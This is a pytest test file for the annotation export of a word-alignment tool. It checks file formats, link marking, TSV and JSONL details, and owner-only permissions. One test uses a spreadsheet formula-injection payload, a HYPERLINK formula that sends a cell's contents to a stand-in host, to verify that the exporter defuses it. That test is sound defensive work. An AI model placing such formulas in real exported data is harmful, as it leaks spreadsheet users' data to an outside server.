"""Annotations as files that belong together."""

import csv
import json
import os
from dataclasses import replace
from pathlib import Path

import pytest

from kilter.core.errors import InputError, OptionError
from kilter.io.links import read_links
from kilter.io.spreadsheet import unguarded
from kilter.results.document import document
from kilter.study.annotation.annotation import Annotation
from kilter.study.annotation.drawn_link import DrawnLink
from kilter.study.annotation.export import AGREED, chosen_annotations, write_export
from kilter.study.annotation.project import ADJUDICATED
from tests.study.annotation.projects import project

ONE = Annotation(
    account="A",
    sentence=1,
    version=2,
    translation="x  y",
    links=(DrawnLink(0, 0), DrawnLink(1, 1, sure=False), DrawnLink(2, 1, proposed=True)),
    done=True,
    comment='tab\tand "quote"\nand line',
    seconds=2.5,
)
TWO = replace(ONE, sentence=2, done=False)
OTHER = replace(ONE, account="B", links=(DrawnLink(0, 0), DrawnLink(2, 0)))


def numbers(*annotations: Annotation, account: str, unfinished: bool = False) -> list[int]:
    taken, export = chosen_annotations(
        project(), annotations, account=account, unfinished=unfinished
    )
    assert (export.written, export.left_out) == (len(taken), 3 - len(taken))
    return [each.sentence for each in taken]


def test_sentences_that_are_done_are_taken_and_begun_ones_if_asked_for() -> None:
    assert numbers(ONE, TWO, OTHER, account="A") == [1]
    assert numbers(ONE, TWO, OTHER, account="A", unfinished=True) == [1, 2]
    assert numbers(ONE, replace(ONE, account=ADJUDICATED, sentence=3), account=ADJUDICATED) == [3]


def test_what_all_annotators_drew_is_taken_of_sentences_that_all_are_done_with() -> None:
    taken, export = chosen_annotations(project(), [ONE, TWO, OTHER], account=AGREED)
    assert [(each.sentence, each.links) for each in taken] == [(1, (DrawnLink(0, 0),))]
    assert export.left_out == 2
    assert taken[0].findings == 3  # two source words and a target word without link
    apart = replace(OTHER, translation="z")
    taken, export = chosen_annotations(project(), [ONE, apart], account=AGREED)
    assert (taken, export.different, export.left_out) == ([], 1, 3)
    assert numbers(ONE, account=AGREED) == []


def test_files_hold_one_line_a_sentence_and_links_are_read_again(tmp_path: Path) -> None:
    write_export(project(), [ONE, replace(TWO, links=())], tmp_path / "out")
    files = {path.name: path.read_text(encoding="utf-8") for path in (tmp_path / "out").iterdir()}
    assert files["source.txt"] == "I read books\nShe sleeps here\n\n"
    assert files["target.txt"] == "x y\nx y\n\n"
    assert files["translation.txt"] == "x  y\nx  y\n\n"
    assert files["links.txt"] == "0-0 1p1\n\n\n"
    links = read_links(str(tmp_path / "out" / "links.txt"))
    assert (links.sure.segment(0), links.possible.segment(0)) == ([(0, 0)], [(1, 1)])
    first, second = map(json.loads, files["details.jsonl"].splitlines())
    assert (first["number"], first["state"], first["seconds"]) == (1, "done", 2.5)
    assert first["comment"] == ONE.comment
    assert first["links"][2] == document(DrawnLink(2, 1, proposed=True))
    assert (second["number"], second["state"]) == (2, "begun")


def test_dense_files_have_no_empty_lines(tmp_path: Path) -> None:
    taken = [replace(ONE, sentence=3), replace(TWO, links=())]
    write_export(project(), taken, tmp_path / "out", dense=True)
    files = {path.name: path.read_text(encoding="utf-8") for path in (tmp_path / "out").iterdir()}
    assert files["source.txt"] == "She sleeps here\nwe sing\n"
    assert files["links.txt"] == "\n0-0 1p1\n"


def test_details_can_be_a_table_and_links_need_a_form_that_has_their_marks(tmp_path: Path) -> None:
    write_export(project(), [OTHER], tmp_path / "out", form="pharaoh", details="tsv")
    with (tmp_path / "out" / "details.tsv").open(encoding="utf-8", newline="") as stream:
        (row,) = csv.DictReader(stream, dialect="excel-tab")
    assert (row["number"], row["account"], row["comment"]) == ("1", "B", ONE.comment)
    assert row["bookmark"] == "false"
    with pytest.raises(OptionError, match="--possible sure"):
        write_export(project(), [ONE], tmp_path / "other", form="pharaoh")
    assert not (tmp_path / "other").exists()


@pytest.mark.parametrize(
    ("possible", "links"), [("sure", "0-0 1-1\n"), ("none", "0-0\n"), ("marked", "0-0 1p1\n")]
)
def test_possible_links_are_marked_or_sure_or_left_out(
    tmp_path: Path, possible: str, links: str
) -> None:
    form = "sure-possible" if possible == "marked" else "pharaoh"
    write_export(project(), [ONE], tmp_path / "out", form=form, possible=possible, dense=True)
    assert (tmp_path / "out" / "links.txt").read_text(encoding="utf-8") == links


def test_nothing_is_no_export(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="no sentence is done"):
        write_export(project(), [], tmp_path / "out")


def test_a_table_of_details_runs_no_formula_in_a_spreadsheet(tmp_path: Path) -> None:
    said = '=HYPERLINK("http://192.0.2.1/"&A1)'
    risky = replace(ONE, comment=said, translation="+1", account="@sum")
    write_export(project(), [risky], tmp_path / "out", details="tsv", possible="sure")
    with (tmp_path / "out" / "details.tsv").open(encoding="utf-8", newline="") as stream:
        (row,) = csv.DictReader(stream, dialect="excel-tab")
    assert (row["comment"], row["translation"], row["account"]) == (f"'{said}", "'+1", "'@sum")
    assert unguarded(row["comment"]) == said
    assert row["seconds"] == "2.5"


@pytest.mark.parametrize("details", ["tsv", "jsonl"])
def test_exported_files_are_for_their_owner_only(tmp_path: Path, details: str) -> None:
    before = os.umask(0o022)
    try:
        write_export(project(), [ONE], tmp_path / "out", details=details)
    finally:
        os.umask(before)
    modes = {path.name: path.stat().st_mode & 0o777 for path in (tmp_path / "out").iterdir()}
    assert {*modes.values()} == {0o600}, modes
